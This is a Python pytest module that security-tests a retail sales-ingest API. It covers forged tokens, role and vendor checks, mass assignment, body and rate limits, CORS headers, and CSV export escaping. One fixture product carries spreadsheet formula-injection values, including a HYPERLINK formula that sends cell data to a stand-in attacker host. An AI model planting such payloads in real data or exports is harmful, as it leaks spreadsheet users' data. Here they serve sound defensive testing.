"""The token attack table and the limits, through the real local host (``python -m local_host``).

Every refused request must leave ``fact_sales_line``, ``ingest_batch`` and the raw blob folder
exactly as they were; a control request in the same module shows that a permitted request
does write all three, so the counting would see a write.
"""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

from shared.db.engine import ensure_schema
from shared.db.tables import fact_sales_line, ingest_batch
from tests.support.host import LocalHost
from tests.support.tokens import ATTACKS, auth_header, bad_tokens, sql_url_for, token_for

LIMITS = {
    "SCOUT_MAX_BODY_BYTES": "200000",
    "SCOUT_RATE_LIMIT_PER_MINUTE": "120",
    "SCOUT_RATE_LIMIT_BURST": "25",
}
STORES = [
    {"store_id": "A-001", "vendor_id": "VA", "region": "NCR", "province": "Metro Manila", "city": "Pasig"},
    {
        "store_id": "B-001",
        "vendor_id": "VB",
        "region": "Central Visayas",
        "province": "Cebu",
        "city": "Cebu City",
    },
]
FORMULA_PRODUCT = {
    "sku": "SKU-EVIL",
    "product_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "brand": "+SUM(1+1)",
    "category": "@cmd",
}
PRODUCTS = [
    {"sku": "SKU-1", "product_name": "Pancit Canton", "brand": "Lucky Me!", "category": "Noodles"},
    FORMULA_PRODUCT,
]


class Scout:
    def __init__(self, host: LocalHost) -> None:
        self.host = host
        self.http = httpx.Client(base_url=host.base_url, timeout=60.0)
        self.engine = ensure_schema(sql_url_for(host))
        self.admin = auth_header(token_for(host, "Admin", subject="sec-admin"))
        self.vendor_subjects = {"VA": "pos-va", "VB": "pos-vb"}

    def key(self, **headers: str) -> dict[str, str]:
        return {"x-functions-key": self.host.function_key, **headers}

    def manage(self, method: str, path: str, body: Any) -> httpx.Response:
        resp = self.http.request(
            method, f"/api/manage/{path}", content=json.dumps(body), headers=self.key(**self.admin)
        )
        assert resp.status_code == 200, resp.text
        return resp

    def seed(self) -> None:
        for vendor in ("VA", "VB"):
            self.manage("PUT", f"vendors/{vendor}", {"name": f"Vendor {vendor}"})
            self.manage("PUT", f"callers/{self.vendor_subjects[vendor]}", {"vendor_id": vendor})
        self.manage("PUT", "stores", [{**s, "name": s["store_id"]} for s in STORES])
        self.manage("PUT", "products", PRODUCTS)

    def vendor_token(self, vendor: str) -> dict[str, str]:
        return auth_header(token_for(self.host, "Ingest.Write", subject=self.vendor_subjects[vendor]))

    def ingest(self, lines: Any, headers: dict[str, str], *, key: bool = True, raw: bytes | None = None):
        all_headers = {"Content-Type": "application/json", **headers}
        if key:
            all_headers = self.key(**all_headers)
        body = raw if raw is not None else json.dumps(lines).encode()
        return self.http.post("/api/ingest/transactions", content=body, headers=all_headers)

    def wait_final(self, batch_id: str, headers: dict[str, str], timeout: float = 90.0) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            resp = self.http.get(f"/api/ingest/batches/{batch_id}", headers=self.key(**headers))
            assert resp.status_code == 200, resp.text
            if resp.json()["status"] in ("succeeded", "partially_succeeded", "failed"):
                return dict(resp.json())
            time.sleep(1.0)  # under the per-caller rate limit
        raise AssertionError(f"batch {batch_id} not final after {timeout} s")

    def written(self) -> tuple[int, int, int]:
        with self.engine.connect() as conn:
            facts = conn.execute(select(func.count()).select_from(fact_sales_line)).scalar_one()
            batches = conn.execute(select(func.count()).select_from(ingest_batch)).scalar_one()
        root = self.host.data_dir / "blobs" / "raw"
        blobs = sum(1 for p in root.rglob("*") if p.is_file()) if root.exists() else 0
        return facts, batches, blobs


def line(store: str = "A-001", **extra: Any) -> dict[str, Any]:
    when = (datetime.now(UTC) - timedelta(days=1)).replace(microsecond=0)
    return {
        "transaction_id": f"T-{uuid.uuid4().hex[:12]}",
        "line_number": 1,
        "store_id": store,
        "timestamp": when.isoformat(),
        "sku": "SKU-1",
        "quantity": 2,
        "unit_price": 15.5,
        "payment_method": "cash",
        **extra,
    }


@pytest.fixture(scope="module")
def scout(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scout]:
    host = LocalHost(tmp_path_factory.mktemp("security-host"), env=LIMITS)
    host.start()
    try:
        scout = Scout(host)
        scout.seed()
        yield scout
    finally:
        host.stop(timeout=10)
        print(f"--- host log tail ---\n{host.log_tail(15)}")


def _refused(scout: Scout, resp: httpx.Response, before: tuple[int, int, int], status: int, code: str | None):
    assert resp.status_code == status, resp.text
    if code is not None:
        assert resp.json()["error"]["code"] == code
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert scout.written() == before, "a refused request wrote something"


def test_control_a_permitted_batch_writes_rows_batch_and_blob(scout: Scout) -> None:
    before = scout.written()
    vendor = scout.vendor_token("VA")
    resp = scout.ingest([line()], vendor)
    assert resp.status_code == 202, resp.text
    assert scout.wait_final(resp.json()["batch_id"], vendor)["status"] == "succeeded"
    assert scout.written() == (before[0] + 1, before[1] + 1, before[2] + 1)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_tokens_are_401_and_write_nothing(scout: Scout, attack: str) -> None:
    before = scout.written()
    token = bad_tokens(scout.host, subject=scout.vendor_subjects["VA"])[attack]
    resp = scout.ingest([line()], auth_header(token))
    _refused(scout, resp, before, 401, "invalid_token")
    assert resp.headers["WWW-Authenticate"] == 'Bearer error="invalid_token"'


def test_no_token_and_no_function_key(scout: Scout) -> None:
    before = scout.written()
    _refused(scout, scout.ingest([line()], {}), before, 401, "missing_token")
    _refused(scout, scout.ingest([line()], scout.vendor_token("VA"), key=False), before, 401, None)


def test_valid_token_without_the_role(scout: Scout) -> None:
    before = scout.written()
    reader = auth_header(token_for(scout.host, "Dashboard.Read"))
    _refused(scout, scout.ingest([line()], reader), before, 403, "forbidden")
    unmapped = auth_header(token_for(scout.host, "Ingest.Write"))
    _refused(scout, scout.ingest([line()], unmapped), before, 403, "vendor_not_mapped")


def test_vendor_a_writing_a_store_of_vendor_b_refuses_the_whole_batch(scout: Scout) -> None:
    before = scout.written()
    resp = scout.ingest([line("A-001"), line("B-001")], scout.vendor_token("VA"))
    _refused(scout, resp, before, 403, "store_not_allowed")
    assert "B-001" in resp.json()["error"]["message"] and "A-001" not in resp.json()["error"]["message"]


@pytest.mark.parametrize(
    "extra",
    [
        {"vendor_id": "VB"},
        {"status": "succeeded"},
        {"batch_id": "mine"},
        {"customer_key": "x", "loaded_at": "now"},
    ],
)
def test_mass_assignment_in_ingest_lines_is_refused(scout: Scout, extra: dict[str, str]) -> None:
    before = scout.written()
    resp = scout.ingest([line(**extra)], scout.vendor_token("VA"))
    assert resp.status_code in (400, 422), resp.text
    assert scout.written() == before


def test_mass_assignment_in_admin_bodies_is_422(scout: Scout) -> None:
    for path, body in [
        ("vendors/VA", {"name": "A", "created_at": "2001-01-01"}),
        ("callers/pos-va", {"vendor_id": "VA", "roles": ["Admin"]}),
        ("readers/mgr", {"regions": ["NCR"], "subject": "someone-else"}),
    ]:
        resp = scout.http.put(
            f"/api/manage/{path}", content=json.dumps(body), headers=scout.key(**scout.admin)
        )
        assert resp.status_code == 422 and resp.json()["error"]["code"] == "validation_error", resp.text


def test_reader_of_one_region_asking_for_another_is_403(scout: Scout) -> None:
    reader = auth_header(token_for(scout.host, "Dashboard.Read", regions=["NCR"]))
    day = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    params = {"from": day, "to": day, "region": "Central Visayas"}
    resp = scout.http.get("/api/transactions", params=params, headers=reader)
    assert resp.status_code == 403, resp.text
    assert resp.json()["error"]["code"] == "region_not_allowed"
    own = scout.http.get("/api/transactions", params={**params, "region": "NCR"}, headers=reader)
    assert own.status_code == 200, own.text


def test_oversized_body_is_413_and_writes_nothing(scout: Scout) -> None:
    before = scout.written()
    big = json.dumps([line() for _ in range(2000)]).encode()
    assert len(big) > int(LIMITS["SCOUT_MAX_BODY_BYTES"])
    _refused(scout, scout.ingest(None, scout.vendor_token("VA"), raw=big), before, 413, None)


def test_rate_limit_answers_429_with_retry_after(scout: Scout) -> None:
    reader = auth_header(token_for(scout.host, "Dashboard.Read", subject="busy-reader"))
    statuses = []
    for _ in range(int(LIMITS["SCOUT_RATE_LIMIT_BURST"]) + 5):
        resp = scout.http.get("/api/manage/vendors", headers=scout.key(**reader))
        statuses.append(resp.status_code)
        if resp.status_code == 429:
            break
    assert statuses[-1] == 429 and set(statuses[:-1]) == {403}, statuses
    assert resp.json()["error"]["code"] == "rate_limited"
    assert int(resp.headers["Retry-After"]) == 1  # 120 a minute: one token every 0.5 s
    other = auth_header(token_for(scout.host, "Dashboard.Read", subject="calm-reader"))
    assert scout.http.get("/api/manage/vendors", headers=scout.key(**other)).status_code == 403


def test_cors_and_security_headers_on_answers_and_errors(scout: Scout) -> None:
    dashboard = "http://localhost:7071"  # the default SCOUT_DASHBOARD_ORIGIN
    reader = auth_header(token_for(scout.host, "Dashboard.Read"))
    day = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    ok = scout.http.get(
        "/api/transactions", params={"from": day, "to": day}, headers={**reader, "Origin": dashboard}
    )
    assert ok.status_code == 200 and ok.headers["Access-Control-Allow-Origin"] == dashboard
    evil = scout.http.get(
        "/api/transactions", params={"from": day, "to": day}, headers={"Origin": "https://evil.example"}
    )
    assert evil.status_code == 401 and "Access-Control-Allow-Origin" not in evil.headers
    for resp in (ok, evil):
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]


def test_csv_export_neutralises_formula_cells(scout: Scout) -> None:
    txn = line(sku="SKU-EVIL", customer_id="C-1")
    vendor = scout.vendor_token("VA")
    resp = scout.ingest([txn], vendor)
    assert resp.status_code == 202, resp.text
    assert scout.wait_final(resp.json()["batch_id"], vendor)["status"] == "succeeded"
    reader = auth_header(token_for(scout.host, "Dashboard.Read"))
    utc_day = datetime.fromisoformat(txn["timestamp"]).date()  # the store-local day is this or the next
    params = {
        "from": str(utc_day),
        "to": str(utc_day + timedelta(days=1)),
        "format": "csv",
        "part": "top_skus",
    }
    export = scout.http.get("/api/products", params=params, headers=reader)
    assert export.status_code == 200, export.text
    assert export.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    evil = next(r for r in rows if r["sku"] == "SKU-EVIL")
    assert evil["product_name"] == "'" + FORMULA_PRODUCT["product_name"]
    assert evil["brand"] == "'" + FORMULA_PRODUCT["brand"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)
